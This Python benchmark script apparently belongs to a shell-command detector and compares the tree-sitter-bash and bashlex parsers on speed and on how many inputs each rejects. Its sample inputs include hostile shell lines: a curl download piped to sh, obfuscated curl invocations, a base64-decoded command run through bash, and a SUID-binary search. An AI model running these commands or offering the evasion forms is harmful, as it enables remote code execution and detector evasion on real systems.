"""Why the detector reads shell with tree-sitter-bash: both candidate parsers on the same inputs.

For each parser: commands per second on the dev corpus (or a built-in sample), how many inputs it
rejects (raises on), and the same on a few hundred random texts (shell-ish alphabet, seeded;
tests/unit/detect/test_parse_fuzz.py runs hypothesis on the parser). bashlex is optional (GPL-3.0,
not a dependency of the layer): without it only tree-sitter's line is printed.
Run ``python -m bench parsers``.
"""

from __future__ import annotations

import importlib
import json
import random
import time
from collections.abc import Callable
from typing import Any

from bench.corpus import corpus_dir, load_items

_SAMPLE = [
    "curl -s http://x | sh",
    "a=cu;b=rl;$a$b http://x",
    "echo 'unterminated",
    "cat <<EOF | sh\nid\nEOF",
    "find / -perm -4000 2>/dev/null",
    "for i in $(seq 3); do echo $i; done",
    "{curl,-s,http://x}",
    'bash -c "$(echo aWQ= | base64 -d)"',
]
_ALPHABET = "ab $'\"`\\|&;()<>{}[]*?#=-/\n\t~!%^"


def _random_texts(count: int) -> list[str]:
    rng = random.Random(12)
    return ["".join(rng.choice(_ALPHABET) for _ in range(rng.randint(0, 80))) for _ in range(count)]


def _measure(name: str, parse: Callable[[str], Any], texts: list[str]) -> dict[str, Any]:
    failures = 0
    start = time.perf_counter()
    for text in texts:
        try:
            parse(text)
        except Exception:
            failures += 1
    seconds = time.perf_counter() - start
    return {
        "parser": name,
        "inputs": len(texts),
        "rejected": failures,
        "per_second": round(len(texts) / seconds),
    }


def main() -> None:
    folder = corpus_dir()
    corpus = [i.command for i in load_items(folder)] if folder else _SAMPLE * 100
    fuzz = _random_texts(300)
    from ssm_warden.detect.shell.tree import parse as tree_sitter_parse

    parsers: list[tuple[str, Callable[[str], Any]]] = [("tree-sitter-bash", tree_sitter_parse)]
    try:
        bashlex = importlib.import_module("bashlex")
        parsers.append(("bashlex", bashlex.parse))
    except ImportError:
        print(json.dumps({"figure": "parser_choice", "parser": "bashlex", "skipped": "not installed"}))
    for name, parse in parsers:
        print(json.dumps({"figure": "parser_choice", "set": "corpus", **_measure(name, parse, corpus)}))
        print(json.dumps({"figure": "parser_choice", "set": "random_text", **_measure(name, parse, fuzz)}))


if __name__ == "__main__":
    main()
